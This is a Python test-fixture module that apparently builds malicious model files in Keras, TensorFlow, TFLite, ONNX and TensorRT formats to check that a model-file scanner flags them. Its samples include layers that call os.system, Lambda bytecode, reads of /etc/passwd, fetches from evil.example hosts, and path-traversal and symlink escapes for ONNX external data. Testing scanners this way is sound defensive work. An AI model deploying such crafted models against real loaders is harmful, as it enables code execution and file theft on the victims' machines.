"""Attacks by models that name code, files or programs: Keras, TensorFlow, ONNX, and engines."""

import json
import os
import tempfile
from base64 import b64encode
from collections.abc import Mapping
from pathlib import Path

import flatbuffers
import h5py
import numpy as np
import tflite
from flatbuffers import flexbuffers
from onnx import TensorProto, helper, numpy_helper

import onnx_models
from attack import Attack, Write, file
from zips import deflated, stored

CODE, ESCAPE = "executable-layer", "external-data-escape"


def weights(attributes: Mapping[str, str] | None = None) -> bytes:
    """Return an HDF5 file of one dataset, with these attributes of its root."""
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "a.h5"
        with h5py.File(path, "w") as opened:
            opened["w"] = np.zeros(4, np.float32)
            for name, value in (attributes or {}).items():
                opened.attrs[name] = value
        return path.read_bytes()


def model(layer: Mapping[str, object]) -> str:
    """Return the configuration of a model of one layer."""
    return json.dumps(
        {
            "module": "keras",
            "class_name": "Sequential",
            "config": {"name": "m", "layers": [layer]},
            "registered_name": None,
        }
    )


def keras(name: str, known: str, rule: str, **layer: object) -> Attack:
    """Return an attack of a Keras archive of one layer."""
    said = {"module": "keras.layers", "registered_name": None, "config": {"name": "a"}, **layer}
    members = {
        "metadata.json": b'{"keras_version": "3.15.1"}',
        "config.json": model(said).encode(),
        "model.weights.h5": weights(),
    }
    return Attack(name, known, file("a.keras", stored(members)), rule, "a.keras")


def function(module: str, name: str) -> dict[str, object]:
    """Return a layer's configuration that names a function."""
    named = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return {"class_name": "Activation", "config": {"name": "a", "activation": named}}


LAMBDA = {"class_name": "Lambda", "config": {"name": "a", "function": ["4wEAAA==", None, None]}}


def external(location: str, offset: int = 0, length: int = 16) -> bytes:
    """Return an ONNX model one tensor of which lies in another file."""
    tensor = numpy_helper.from_array(np.zeros((4,), np.float32), "w")
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    said = {"location": location, "offset": str(offset), "length": str(length)}
    for key, value in said.items():
        tensor.external_data.add(key=key, value=value)
    node = helper.make_node("Add", ["x", "w"], ["y"])
    return bytes(onnx_models.model([node], [tensor]).SerializeToString(deterministic=True))


def leads(name: str, known: str, location: str) -> Attack:
    """Return an ONNX model whose data lie where no model's data belong."""
    return Attack(name, known, file("a.onnx", external(location)), ESCAPE, "a.onnx")


def beside(link: Write) -> Write:
    """Return a writer of a model in a directory, beside which `link` puts its data."""

    def write(directory: Path) -> None:
        (directory / "model").mkdir()
        (directory / "model" / "a.onnx").write_bytes(external("w.bin"))
        (directory / "secret").write_bytes(bytes(16))
        link(directory)

    return write


def through_parent(directory: Path) -> None:
    """Link the directory that the data lie in to one outside of the model's."""
    (directory / "model").mkdir()
    (directory / "elsewhere").mkdir()
    (directory / "elsewhere" / "w.bin").write_bytes(bytes(16))
    (directory / "model" / "a.onnx").write_bytes(external("data/w.bin"))
    (directory / "model" / "data").symlink_to("../elsewhere")


def node(op: str) -> bytes:
    """Return a node of TensorFlow."""
    return b"\x0a\x01n\x12" + bytes([len(op)]) + op.encode()


def frozen(nodes: bytes) -> bytes:
    """Return a frozen graph of one node."""
    return b"\x0a" + _length(len(nodes)) + nodes + b"\x22\x03\x08\xc8\x0e"


def attribute(key: str, text: bytes, *, is_list: bool = False) -> bytes:
    """Return an attribute of a node that is a text, or a list of one."""
    value = b"\x12" + _length(len(text)) + text
    if is_list:
        value = b"\x0a" + _length(len(value)) + value
    entry = b"\x0a" + _length(len(key)) + key.encode() + b"\x12" + _length(len(value)) + value
    return b"\x2a" + _length(len(entry)) + entry


def _length(length: int) -> bytes:
    """Return a number as protobuf writes it."""
    low, high = length & 0x7F, length >> 7
    return bytes([low | 0x80]) + _length(high) if high else bytes([low])


# A field that no format has, longer than what is looked at first.
UNKNOWN_FIELD = b"\xba\x3e" + _length(5000) + bytes(5000)
LONG_NAME = b"\x0a" + _length(5000) + b"n" * 5000 + b"\x12\x09WriteFile"
IR = '<net name="m" version="11"><layers><layer id="0" name="x" type="Result" version="opset1"/></layers></net>'
COMMENT = f"<!--{'x' * 5000}-->"


def tflite_model(code: str, options: bytes, count: int = 1, inputs: int = 0) -> bytes:
    """Return a TFLite model of one custom operator that its graph has so many times."""
    builder = flatbuffers.Builder()
    name = builder.CreateString(code)
    tflite.OperatorCodeStart(builder)
    tflite.OperatorCodeAddDeprecatedBuiltinCode(builder, tflite.BuiltinOperator.CUSTOM)
    tflite.OperatorCodeAddBuiltinCode(builder, tflite.BuiltinOperator.CUSTOM)
    tflite.OperatorCodeAddCustomCode(builder, name)
    codes = _offset(builder, tflite.OperatorCodeEnd(builder))
    stated = builder.CreateByteVector(options)
    ports = builder.CreateNumpyVector(np.full(inputs, -1, np.int32))
    tflite.OperatorStart(builder)
    tflite.OperatorAddCustomOptions(builder, stated)
    tflite.OperatorAddInputs(builder, ports)
    operators = _offset(builder, tflite.OperatorEnd(builder), count)
    tflite.SubGraphStart(builder)
    tflite.SubGraphAddOperators(builder, operators)
    graphs = _offset(builder, tflite.SubGraphEnd(builder))
    tflite.ModelStart(builder)
    tflite.ModelAddVersion(builder, 3)
    tflite.ModelAddOperatorCodes(builder, codes)
    tflite.ModelAddSubgraphs(builder, graphs)
    builder.Finish(tflite.ModelEnd(builder), b"TFL3")
    return bytes(builder.Output())


def _offset(builder: flatbuffers.Builder, offset: int, count: int = 1) -> int:
    """Return a vector of one table, so many times."""
    builder.StartVector(4, count, 4)
    for _ in range(count):
        builder.PrependUOffsetTRelative(offset)
    return int(builder.EndVector())


def flex(code: str, op: str, attributes: bytes = b"", count: int = 1) -> bytes:
    """Return a TFLite model whose operator's options name another one than its code."""
    builder = flexbuffers.Builder()
    with builder.Vector():
        builder.String(code)
        builder.String((node(op) + attributes).decode())
    return tflite_model(f"Flex{code}", bytes(builder.Finish()), count)


def keras_metadata(configuration: Mapping[str, object]) -> bytes:
    """Return what Keras keeps of an object beside a saved model."""
    said = json.dumps(configuration).encode()
    saved = b"\x2a" + _length(len(said)) + said
    return b"\x0a" + _length(len(saved)) + saved


def op_layer(name: str, said: object, rule: str = CODE) -> Attack:
    """Return an attack of a Keras archive of one layer that runs a node of TensorFlow."""
    config = {"name": "a", "node_def": said}
    return keras(name, "", rule, class_name="TensorFlowOpLayer", config=config)


def graph(name: str, content: bytes, rule: str = CODE) -> Attack:
    """Return an attack of a graph of TensorFlow that nothing but its content tells."""
    return Attack(
        f"a graph of TensorFlow {name}", "", file("notes.txt", content), rule, "notes.txt"
    )


ONNX_PATH = "model/a.onnx"

ATTACKS = [
    keras("a Lambda layer", "CVE-2024-3660", CODE, **LAMBDA),
    keras("a module that loading imports", "CVE-2025-1550", CODE, **function("os", "system")),
    keras("a download by a function of Keras", "CVE-2025-8747", CODE, **function("keras.utils", "get_file")),
    keras("safe loading switched off", "CVE-2025-9906", CODE, **function("keras.config", "enable_unsafe_deserialization")),
    keras("a pickled module of torch in a layer", "CVE-2025-49655", CODE, class_name="TorchModuleWrapper"),
    keras("a saved model in a layer", "CVE-2026-1462", CODE, class_name="TFSMLayer", config={"name": "a", "filepath": "/srv/evil"}),
    keras("a vocabulary that is read from anywhere", "CVE-2025-12058", ESCAPE, class_name="StringLookup", config={"name": "a", "vocabulary": "/etc/passwd"}),
    keras("a vocabulary that is fetched", "CVE-2025-12058", ESCAPE, class_name="StringLookup", config={"name": "a", "vocabulary": "https://evil.example/v"}),
    keras("a layer whose name is a path", "CVE-2026-12479", ESCAPE, class_name="Dense", config={"name": "../../evil"}),
    Attack("a Lambda layer that is all of a configuration", "", file("keras_metadata.pb", keras_metadata(LAMBDA)), CODE, "keras_metadata.pb"),
    keras("a loader of older versions inside Keras", "CVE-2025-9905", CODE, **function("keras.src.legacy.saving.legacy_h5_format", "load_model_from_hdf5")),
    keras("a download of a data set by Keras", "CVE-2025-8747", CODE, **function("keras.datasets.mnist", "load_data")),
    keras("a layer that calls a function of TensorFlow", "", CODE, class_name="TFOpLambda", config={"name": "a", "function": "io.write_file"}),
    keras("a layer that runs an operator of TensorFlow", "", CODE, class_name="TensorFlowOpLayer", config={"name": "a", "node_def": {"name": "n", "op": "WriteFile"}}),
    op_layer("a layer that prints into a file", {"name": "n", "op": "PrintV2", "attr": {"output_stream": {"s": b64encode(b"file:///tmp/x").decode()}}}),
    op_layer("a layer that prints into a file, its node as a text", (node("PrintV2") + attribute("output_stream", b"file:///tmp/x")).decode()),
    op_layer("a layer whose node cannot be read", "\x0a\x7f", "not-examined"),
    keras("a private function that unpacks archives", "", CODE, **function("keras.src.utils.file_utils", "_extract_archive")),
    keras("a layer that prints by a function of TensorFlow", "", CODE, class_name="TFOpLambda", config={"name": "a", "function": "print"}),
    keras("a table that is read out of a file", "", CODE, class_name="TFOpLambda", config={"name": "a", "function": "lookup.TextFileInitializer"}),
    keras("a column whose vocabulary is a file", "", CODE, class_name="TFOpLambda", config={"name": "a", "function": "feature_column.sequence_categorical_column_with_vocabulary_file"}),
    Attack("a Lambda layer in HDF5, where safe loading does not look", "CVE-2025-9905", file("a.h5", weights({"model_config": model(LAMBDA)})), CODE, "a.h5"),
    Attack("an operator that calls Python", "TensorFlow SECURITY.md", file("a.pb", frozen(node("PyFunc"))), CODE, "a.pb"),
    Attack("an operator of TensorFlow under another name in TFLite", "", file("a.tflite", flex("AddV2", "WriteFile")), CODE, "a.tflite"),
    Attack("an operator that maps a file into memory", "", file("a.pb", frozen(node("ImmutableConst"))), CODE, "a.pb"),
    Attack("an operator that calls another machine", "", file("a.pb", frozen(node("RpcCall"))), CODE, "a.pb"),
    Attack("an operator whose attribute names a file", "", file("a.pb", frozen(node("FixedUnigramCandidateSampler") + attribute("vocab_file", b"/etc/passwd"))), CODE, "a.pb"),
    Attack("a debugger that an operator talks to", "", file("a.pb", frozen(node("DebugNanCount") + attribute("debug_urls", b"grpc://evil.example:1", is_list=True))), CODE, "a.pb"),
    Attack("a graph of TensorFlow behind a field that no format has", "", file("notes.txt", UNKNOWN_FIELD + frozen(node("WriteFile"))), CODE, "notes.txt"),
    Attack("a graph of TensorFlow whose first node has a long name", "", file("notes.txt", frozen(LONG_NAME)), CODE, "notes.txt"),
    Attack("a graph of TensorFlow behind a field that no format has, in a zip", "", file("a.zip", deflated({"notes.txt": UNKNOWN_FIELD + frozen(node("WriteFile"))})), CODE, "a.zip"),
    graph("behind a group", b"\x7b\x7c" + frozen(node("WriteFile")), "malformed-header"),
    graph("behind a long group", b"\x7b" + UNKNOWN_FIELD + b"\x7c" + frozen(node("WriteFile")), "malformed-header"),
    graph("whose operator has two names", frozen(b"\x12" + _length(5000) + b"x" * 5000 + node("WriteFile"))),
    graph("with an attribute of a long name", frozen(attribute("_" + "a" * 5000, b"") + node("WriteFile"))),
    graph("behind a function that is none", UNKNOWN_FIELD + b"\x12\x0a\x0a\x08\x1a\x06" + node("?") + frozen(node("WriteFile"))),
    graph("behind a node without an operator", UNKNOWN_FIELD + frozen(b"\x0a\x01n") + frozen(node("WriteFile"))),
    graph("behind millions of fields", b"\x78\x01" * ((1 << 22) + 8) + frozen(node("WriteFile")), "not-examined"),
    Attack("layers of Keras behind a field that no format has", "", file("keras_metadata.pb", UNKNOWN_FIELD + keras_metadata({"config": {"layers": [LAMBDA]}})), CODE, "keras_metadata.pb"),
    Attack("a model of OpenVINO behind a long comment", "", file("notes.txt", COMMENT + IR), "extension-mismatch", "notes.txt"),
    Attack("a model of Keras behind a user block of HDF5", "", file("notes.txt", bytes(8192) + weights({"model_config": model(LAMBDA)})), CODE, "notes.txt"),
    Attack("an operator in TFLite that only a library beside the model has", "", file("a.tflite", tflite_model("MyOp", b"")), "not-examined", "a.tflite"),
    leads("data in a directory above", "CVE-2022-25882, CVE-2024-27318", "../secret"),
    leads("data above, told by a directory below", "CVE-2024-27318", "a/../../secret"),
    leads("data at a path from the root", "CVE-2025-51480", "/etc/passwd"),
    leads("data behind a backslash", "CVE-2022-25882", "..\\secret"),
    leads("data on a drive", "", "C:secret"),
    leads("data under a name that ends with NUL", "", "w.bin\0.txt"),
    Attack("data behind a link", "CVE-2026-34447", beside(lambda d: (d / "model/w.bin").symlink_to("../secret")), ESCAPE, ONNX_PATH),
    Attack("data behind a hard link", "CVE-2026-34446", beside(lambda d: os.link(d / "secret", d / "model/w.bin")), ESCAPE, ONNX_PATH),
    Attack("data in a directory that is a link", "CVE-2026-27489", through_parent, ESCAPE, ONNX_PATH),
    Attack("data that end beyond their file", "", beside(lambda d: (d / "model/w.bin").write_bytes(bytes(8)) and None), "truncated-file", ONNX_PATH),
    Attack("an engine of TensorRT", "NVIDIA's documentation", file("a.engine", b"ptrt" + bytes(64)), "executable-format", "a.engine"),
]  # fmt: skip
